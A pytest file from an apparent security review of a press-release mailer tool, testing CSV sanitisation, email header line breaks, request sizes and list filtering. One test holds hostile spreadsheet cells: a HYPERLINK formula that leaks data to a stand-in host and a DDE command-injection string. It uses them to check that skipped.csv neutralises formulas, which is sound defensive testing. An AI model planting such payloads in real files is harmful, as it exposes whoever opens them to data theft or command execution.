"""Hostile review 8: the column-wise fast paths against the reference row paths, with hostile list data.

Each test is one finding, written failing before its fix (session 8 fixed them all); the
docstrings say what went wrong. The review found no difference between the two paths themselves.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from conftest import ROOT, todays_campaign

from mailer.cli import main
from mailer.spreadsheet import FORMULA_STARTS


def mailer(*args: str) -> Result:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result


def write_list(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def test_dry_run_skipped_csv_is_spreadsheet_safe(logged: Path) -> None:
    """skipped.csv is a file the press officer opens in a spreadsheet (README: "the rows that get
    no email, and why"); a rejected address cell such as ``=HYPERLINK(...)`` must not be written
    as a formula there, as every other CSV mailer writes (reports, lists clean --rejects)."""
    hostile = ['=HYPERLINK("http://evil.example/?leak","click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    write_list(logged / "lists" / "hostile.csv", [["Email", "First Name"], ["ana@example.org", "Ana"], *[[cell, "x"] for cell in hostile]])
    mailer("send", "releases/example.md", "--list", "lists/hostile.csv", "--dry-run")
    skipped = logged / "out" / "outbox" / todays_campaign() / "skipped.csv"
    rows = list(csv.reader(skipped.open(encoding="utf-8-sig")))[1:]
    assert len(rows) == len(hostile)
    assert [row[0] for row in rows if row[0].startswith(FORMULA_STARTS)] == []


# Unicode line breaks that str.splitlines(), email.header and mail clients treat as line ends, and
# that a CSV cell can carry through the loader (it removes C0 controls but not these).
UNICODE_BREAKS = ("\u2028", "\u2029", "\x85")

LINE_RELEASE = """---
subject: "For {{ contact.first_name | default('you') }} at {{ contact.remark | default('your desk') }}"
headline: "Bees"
date: 2026-02-19
contact:
  name: "Dana"
  email: "press@example.org"
---
Dear {{ contact.first_name | default("colleague") }}, news for {{ contact.remark | default("you") }}.
"""


def test_dry_run_eml_subject_is_the_personalized_subject_with_unicode_line_breaks(logged: Path) -> None:
    """Promise 9 and "no line break reaches a header": a journalist whose cells hold a Unicode line
    separator gets the same subject in every proof (the dry-run .eml, ``compose.personalize``), and
    that subject is one line. Today ``tokens.escape_subject`` only replaces CR and LF, so
    ``personalize`` (preview, archive) keeps U+2028 in the subject while the .eml folds the header
    there and shows another subject; SendGrid is handed a header value with a line separator."""
    from email import message_from_bytes, policy

    from mailer import compose, contacts
    from mailer.compose import release

    (logged / "releases" / "lines.md").write_text(LINE_RELEASE, encoding="utf-8")
    write_list(
        logged / "lists" / "lines.csv",
        [
            ["Email", "First Name", "Remark"],
            *[[f"p{i}@example.org", f"Ann{mark}Lee", f"Front{mark}page"] for i, mark in enumerate(UNICODE_BREAKS)],
        ],
    )
    mailer("send", "releases/lines.md", "--list", "lists/lines.csv", "--dry-run")
    folder = logged / "out" / "outbox" / todays_campaign("lines")
    rendered = compose.render(release.load(logged / "releases" / "lines.md"), config=_config(logged))
    people = {c.email: c for c in contacts.load([logged / "lists" / "lines.csv"]).contacts}
    assert len(list(folder.glob("*.eml"))) == len(UNICODE_BREAKS), list(folder.iterdir())
    for path in sorted(folder.glob("*.eml")):
        proof = message_from_bytes(path.read_bytes(), policy=policy.default)
        who = proof["To"].addresses[0].addr_spec
        personal = compose.personalize(rendered, people[who].fields)
        assert str(proof["Subject"]) == personal.subject, who
        assert len(personal.subject.splitlines()) == 1, who


def _config(logged: Path):  # type: ignore[no-untyped-def]
    from mailer.config import load

    return load(logged / "mailer.toml")


@pytest.mark.parametrize("value", ["😀" * 1200, "\\" * 2400, '"' * 2400], ids=["emoji", "backslashes", "quotes"])
def test_plan_requests_stay_under_the_size_limit_whatever_json_escapes_the_values_need(tmp_path: Path, value: str) -> None:
    """A list read from CSV whose journalists carry long values (under SendGrid's 10,000 bytes of
    substitutions each, but over the plan's quick bound, so each is measured exactly): every request
    body, as python_http_client encodes it (``json.dumps``: ASCII escapes, 12 bytes for a character
    beyond U+FFFF, 2 for a backslash or a double quote), stays under the size limit.
    ``plan._json_bytes`` counts 6 bytes per non-ASCII character and ``_sizes`` one per ASCII one,
    so these requests come out about 1.8 times the limit (SendGrid: 413, then halves)."""
    import json

    from mailer import compose, contacts
    from mailer.compose import release
    from mailer.config import Config
    from mailer.send import plan
    from mailer.transport.base import Request
    from mailer.transport.mailsend import build_body, common_body

    (tmp_path / "q.md").write_text(
        '---\nsubject: "S"\nheadline: "H"\ndate: 2026-02-19\n---\nQuote: {{ contact.quote | default("") }}\n', encoding="utf-8"
    )
    config = Config()
    rendered = compose.render(release.load(tmp_path / "q.md"), config=config)
    write_list(tmp_path / "q.csv", [["Email", "Quote"], *[[f"j{i}@example.org", value] for i in range(200)]])
    limit = 1_000_000
    built = plan.build(rendered, contacts.load([tmp_path / "q.csv"]), max_request_bytes=limit)
    assert not built.skipped()  # 2 x 4,800 bytes of substitutions: under SendGrid's 10,000
    common = common_body(rendered, sendgrid=config.sendgrid, sender=config.sender, unsubscribe_tag=compose.unsubscribe_tag(config))
    sizes = [
        len(json.dumps(build_body(Request("2026-02-19-q", recipients.request_no or 0, rendered, recipients), common)).encode("utf-8"))
        for _, recipients in built.requests()
    ]
    assert max(sizes) < limit, sizes


def test_load_canonical_cells_are_one_line_with_unicode_line_breaks(tmp_path: Path) -> None:
    """The loader makes canonical cells one line ("an Excel line break (Alt+Enter) ... would show
    up in a greeting"); a line or paragraph separator pasted from Word or a PDF (U+2028, U+2029)
    or a NEL (U+0085) is a line break too (``str.splitlines``, mail clients), and is left in."""
    from mailer import contacts

    rows = [[f"p{i}@example.org", f"Ann{mark}Lee", f"Daily{mark}News"] for i, mark in enumerate(UNICODE_BREAKS)]
    loaded = contacts.load([write_list(tmp_path / "l.csv", [["Email", "First Name", "Outlet"], *rows])])
    for person in loaded.contacts:
        assert len(person.fields["first_name"].splitlines()) == 1, person.fields
        assert len(person.fields["outlet"].splitlines()) == 1, person.fields


def test_dry_run_eml_lines_stay_within_rfc_5322_with_long_values(logged: Path) -> None:
    """A journalist with a very long name or field value (well under SendGrid's 10,000 bytes of
    substitutions) gets a proof whose every line is at most 998 characters (RFC 5322 §2.1.1: "MUST
    be no more than 998"); ``eml._address`` and ``_text_header`` (ASCII as it is) write the To and
    Subject headers on one line whatever their length, and an encoded word past 75 characters."""
    (logged / "releases" / "lines.md").write_text(LINE_RELEASE, encoding="utf-8")
    write_list(
        logged / "lists" / "long.csv",
        [
            ["Email", "First Name", "Last Name", "Remark"],
            ["ascii@example.org", "A" * 1200, "B" * 200, "R" * 900],
            ["accents@example.org", "é" * 700, "Ö", "ü" * 300],
        ],
    )
    mailer("send", "releases/lines.md", "--list", "lists/long.csv", "--dry-run")
    folder = logged / "out" / "outbox" / todays_campaign("lines")
    proofs = sorted(folder.glob("*.eml"))
    assert len(proofs) == 2
    for path in proofs:
        long_lines = [line[:40] for line in path.read_bytes().split(b"\r\n") if len(line) > 998]
        assert long_lines == [], path.name


@pytest.mark.parametrize("order", ["first-names-first", "full-names-first"])
def test_where_on_a_field_one_list_file_has_does_not_depend_on_the_order_of_the_files(tmp_path: Path, order: str) -> None:
    """Two lists with different columns: one with First Name, one with full names, where "Dr. Jane
    Doe" gives an ``honorific`` field (README, Lists). ``--where honorific=Dr.`` picks Jane whatever
    order the files are named in (it was refused, "Unknown field", when the first recipient's file
    had no honorifics: ``apply_filter`` took the known fields from that contact alone)."""
    from mailer import contacts

    first = write_list(tmp_path / "first.csv", [["Email", "First Name"], ["ann@example.org", "Ann"]])
    full = write_list(tmp_path / "full.csv", [["Email", "Name"], ["jane@example.org", "Dr. Jane Doe"], ["bob@example.org", "Bob Roe"]])
    paths = [first, full] if order == "first-names-first" else [full, first]
    narrowed = contacts.apply_filter(contacts.load(paths), contacts.parse_filter(["honorific=Dr."], []))
    assert [person.email for person in narrowed.contacts] == ["jane@example.org"]


def test_plan_requests_of_a_list_of_contacts_in_several_languages_come_in_request_order(tmp_path: Path) -> None:
    """``Plan.requests`` gives "each request's recipients ... in request number order": so it does
    for a list read from CSV (cut from the columns), and so it must for the same journalists as a
    list of Contacts (a follow-up, a test send, a script): today the row path yields a version's
    request when that version's next one opens, so a list whose languages alternate is sent 1, 6,
    2, 4, 7, 3, 5 (the dry run writes request-0006.json second)."""
    from mailer import compose, contacts
    from mailer.compose import release
    from mailer.config import Config, SenderConfig
    from mailer.models import ContactList
    from mailer.send import plan

    languages = ROOT / "tests" / "data" / "releases" / "languages"
    for name in ("launch.md", "launch.fr.md"):
        (tmp_path / name).write_bytes((languages / name).read_bytes())
    config = Config(sender=SenderConfig(postal_address="1 Hive Lane"))
    versions = list(compose.render_versions(release.load(tmp_path / "launch.md"), config=config).values())
    cells = ["fr", "", "", "de"]
    path = write_list(tmp_path / "l.csv", [["Email", "Language"], *[[f"p{i}@example.org", cells[i % 4]] for i in range(12)]])
    loaded = contacts.load([path])
    by_columns = plan.build(versions[0], loaded, versions=versions[1:], batch_size=2)
    by_rows = plan.build(
        versions[0], ContactList(tuple(loaded.contacts), loaded.rejected, loaded.files), versions=versions[1:], batch_size=2
    )
    numbers = [recipients.request_no for _, recipients in by_columns.requests()]
    assert numbers == sorted(numbers)
    assert [recipients.request_no for _, recipients in by_rows.requests()] == numbers
